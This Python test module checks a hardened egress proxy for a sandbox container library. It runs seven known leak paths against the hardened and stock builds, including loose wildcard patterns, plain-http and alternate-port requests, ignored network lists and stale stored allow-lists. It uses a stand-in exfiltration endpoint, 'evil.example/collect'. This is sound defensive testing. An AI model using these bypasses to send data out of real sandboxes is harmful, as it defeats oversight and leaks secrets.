"""The seven ways in which egress control of the platform's library is silently open: each tried on what was built.

The class of the container runs as it was built; of the container itself only the list of what it is asked is there.
"""

from leaving import JSON
from worker import SHOWN, STOCK_PROPS, Worker, ours

EVIL = "https://evil.example/collect"
MESSAGES = ("https://api.anthropic.com/v1/messages", "POST", {"x-api-key": SHOWN["ANTHROPIC_API_KEY"]} | JSON, "{}")
ALL_TLS = {"name": "interceptOutboundHttps", "args": ["*"]}
ALL_PLAIN = {"name": "interceptAllOutboundHttp", "args": []}


def refused(checks, what, worker, url=EVIL, **props):
    answer, arrived, lines = worker.leaves(url, props=STOCK_PROPS | props)
    checks.that(what, answer["status"] == 403 and not arrived and len(ours(lines)) == 1, f"{answer}\n{arrived}\n{lines}")


def leaves(checks, what, worker, url=EVIL, **props):
    answer, arrived, lines = worker.leaves(url, props=STOCK_PROPS | props)
    checks.that(what, len(arrived) == 1, f"{answer}\n{arrived}\n{lines}")


def order(asked):
    return [it["name"] for it in asked]


def check_class(checks, hardened, stock):
    """A: TLS passes by unless it is asked for; B: static fields are never read; F: an empty list."""
    seen = hardened.ask("/sandbox", name="fresh")
    asked = seen["asked"]
    start = next((it["options"] for it in asked if it["name"] == "start"), {})
    checks.that("A: all TLS is intercepted, and all else, before the container starts",
                ALL_TLS in asked and ALL_PLAIN in asked and order(asked)[-1] == "start", seen)
    checks.same("A: it starts without internet, and trusts the interception", start,
                {"enableInternet": False, "env": {"SANDBOX_INTERCEPT_HTTPS": "1"}})
    there = stock.ask("/sandbox", name="fresh")
    checks.that("  without the overlay nothing is intercepted, and there is internet", there["asked"] == [
        {"name": "start", "options": {"enableInternet": True}}], there)
    checks.that("A: what the class holds are placeholders", SHOWN["ANTHROPIC_API_KEY"] == seen["env"].get("ANTHROPIC_API_KEY"), seen)
    # B: the library would let this through, whatever a handler says that it never heard of.
    refused(checks, "B: the proxy decides although the library is told to let everything out", hardened,
            enableInternet=True, interceptAll=False)
    leaves(checks, "  without the overlay it leaves", stock, enableInternet=True, interceptAll=False)


def check_lists(checks, hardened, stock):
    """C: networks never match; D: loose patterns match strangers; E: http and odd ports pass."""
    network = {"allowedHosts": ["141.101.64.0/18", "*"], "deniedHosts": ["141.101.64.0/18"]}
    refused(checks, "C: an address is refused, whatever a list of networks says", hardened, "https://141.101.64.7/", **network)
    leaves(checks, "  without the overlay the denied network is asked", stock, "https://141.101.64.7/", **network)
    loose = {"allowedHosts": ["*discord.com"], "enableInternet": False}
    refused(checks, "D: a look-alike is refused, whatever a loose pattern says", hardened, "https://notdiscord.com/x", **loose)
    leaves(checks, "  without the overlay it leaves", stock, "https://notdiscord.com/x", **loose)
    for url in ("http://api.anthropic.com/v1/messages", "https://api.anthropic.com:8443/v1/messages"):
        listed = {"allowedHosts": ["api.anthropic.com"], "enableInternet": False}
        refused(checks, f"E: refused ({url[:22]}…)", hardened, url, **listed)
        leaves(checks, f"  without the overlay it leaves ({url[:22]}…)", stock, url, **listed)


def check_empty(checks, build):
    with Worker(build, "empty") as empty:
        seen = empty.ask("/sandbox", name="fresh")
        checks.same("F: a policy that allows nothing has a list all the same", seen["fields"]["allowedHosts"], ["moltctl.invalid"])
        checks.that("F: and everything comes before it", ALL_TLS in seen["asked"] and ALL_PLAIN in seen["asked"], seen)
        refused(checks, "F: and nothing leaves", empty)


def check_stored(checks, hardened, stock):
    """G: what a setter stored in an earlier version overrides the class for ever."""
    seen = hardened.ask("/sandbox", name="old", before="setAllowedHosts")
    checks.that("G: a list that an earlier version stored is in effect in the library, and all is intercepted all the same",
                seen["effective"] == ["evil.example"] and ALL_TLS in seen["asked"] and ALL_PLAIN in seen["asked"], seen)
    old = {"allowedHosts": seen["effective"], "enableInternet": False}
    refused(checks, "G: and the proxy does not ask it", hardened, **old)
    leaves(checks, "  without the overlay the stored list rules", stock, **old)
    _, arrived, _ = hardened.leaves(*MESSAGES, props=STOCK_PROPS | old)
    checks.that("G: nor is anything closed by it that the policy allows", len(arrived) == 1, arrived)
    for denied in (["*"], ["api.anthropic.com"], ["*.anthropic.com"]):
        answer, arrived, lines = hardened.leaves(*MESSAGES, props=STOCK_PROPS | {"deniedHosts": denied})
        checks.that(f"G: a stored denial still stops ({denied[0]})", answer["status"] == 403 and not arrived
                    and [it["reason"] for it in ours(lines)] == ["denied-hosts"], f"{answer}\n{lines}")


def check_strict(checks, build):
    """B again: `dns = "strict"` needs the library's own table of hosts, which is filled by assignment."""
    with Worker(build, "strict") as strict:
        seen = strict.ask("/sandbox", name="fresh")
        secure = sorted(it["args"][0] for it in seen["asked"] if it["name"] == "interceptOutboundHttps")
        wanted = ["0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com", "api.anthropic.com", "api.telegram.org",
                  "discord.com", "docs.example.com", "gateway.discord.gg", "moltbot-sandbox.example.workers.dev",
                  "moltctl.invalid", "slack.com"]
        checks.same("B: strict: the named hosts, and only they, are intercepted one by one", secure, wanted)
        checks.that("B: strict: and not all, which would open the names", ALL_PLAIN not in seen["asked"]
                    and order(seen["asked"])[-1] == "start", seen)
        props = {"enableInternet": False, "interceptAll": False}
        refused(checks, "B: strict: the proxy decides as ever", strict, "https://api.anthropic.com/v1/files", **props)
        _, arrived, _ = strict.leaves(*MESSAGES, props=STOCK_PROPS | props)
        checks.that("B: strict: and lets through what is allowed", len(arrived) == 1, arrived)


def check(checks, builds):
    with Worker(builds["hardened"], "traps") as hardened, Worker(builds["stock"], "traps-stock") as stock:
        check_class(checks, hardened, stock)
        check_lists(checks, hardened, stock)
        check_stored(checks, hardened, stock)
    check_empty(checks, builds["empty"])
    check_strict(checks, builds["strict"])
